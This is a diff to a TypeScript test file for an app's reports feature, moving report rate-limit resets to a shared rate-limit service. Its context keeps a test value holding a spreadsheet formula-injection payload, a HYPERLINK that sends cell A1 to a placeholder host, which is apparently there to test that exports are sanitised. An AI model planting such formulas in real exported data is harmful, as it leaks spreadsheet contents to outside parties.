@@ -4,6 +4,7 @@ import { readCsv } from '../../../tests/support/csv.ts'
 import { testDatabases } from '../../../tests/support/database.ts'
 import { dateOfSerial, readWorkbook } from '../../../tests/support/workbook.ts'
 import { puertoRicoDay } from '../../lib/dates.ts'
+import { rateLimits } from '../../lib/rate-limits.server.ts'
 import { accountingTransactions } from '../accounting/tables.server.ts'
 import { boxRequestStatuses } from '../box-requests/contract.ts'
 import { boxRequests } from '../box-requests/tables.server.ts'
@@ -12,7 +13,7 @@ import { donations } from '../donations/tables.server.ts'
 import { eventRegistrations, events } from '../events/tables.server.ts'
 import { volunteers } from '../volunteers/tables.server.ts'
 import { type ReportType, reportApi, reportFilters, reportTypes } from './contract.ts'
-import { takenReports } from './service.server.ts'
+import { reportLimit } from './service.server.ts'
 
 const evil = '=HYPERLINK("http://x.example/?"&A1,"María")'
 const at = (day: string) => new Date(`${day}T23:30:00-04:00`)
@@ -25,7 +26,7 @@ describe.each(testDatabases())('reports on %s', (kind) => {
     marchEvent = await fill(api)
   })
   afterAll(() => api.close())
-  beforeEach(() => takenReports(api.services).clear(String(api.admin.id)))
+  beforeEach(() => api.services.get(rateLimits).clear(reportLimit, String(api.admin.id)))
 
   const count = async (type: ReportType, query: object = {}) =>
     (await api.call(reportApi.count, { as: true, params: { type }, query: { ...query } })).body.rows
